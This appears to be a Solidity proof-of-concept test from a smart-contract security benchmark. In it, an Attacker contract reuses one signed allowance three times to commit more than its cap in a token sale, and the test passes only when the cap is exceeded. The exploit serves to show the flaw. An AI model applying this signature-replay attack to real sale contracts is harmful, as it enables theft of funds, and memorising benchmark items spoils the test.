// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    Allowances.Allowance private allowance;
    bytes private signature;

    function see(Allowances.Allowance calldata allowance_, bytes calldata signature_) external {
        (allowance, signature) = (allowance_, signature_);
    }

    function run(IERC20 coin, TieredSale sale) external {
        coin.approve(address(sale), type(uint256).max);
        for (uint256 i = 0; i < 3; i++) {
            try sale.commitAllowed(60_000e18, allowance, signature, address(0)) {} catch {
                return;
            }
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        coin.mint(address(other), 180_000e18);
        Allowances.Allowance memory a = allowance(address(other), 60_000e18);
        other.see(a, signed(sale, a));
    }

    /// The account has committed no more than was allowed.
    function withinCap() public view returns (bool) {
        return sale.committedOf(address(other)) <= 60_000e18;
    }

    function exploit() public {
        other.run(coin, sale);
    }

    function test_Exploit() public {
        exploit();
        require(!withinCap(), "within the cap");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
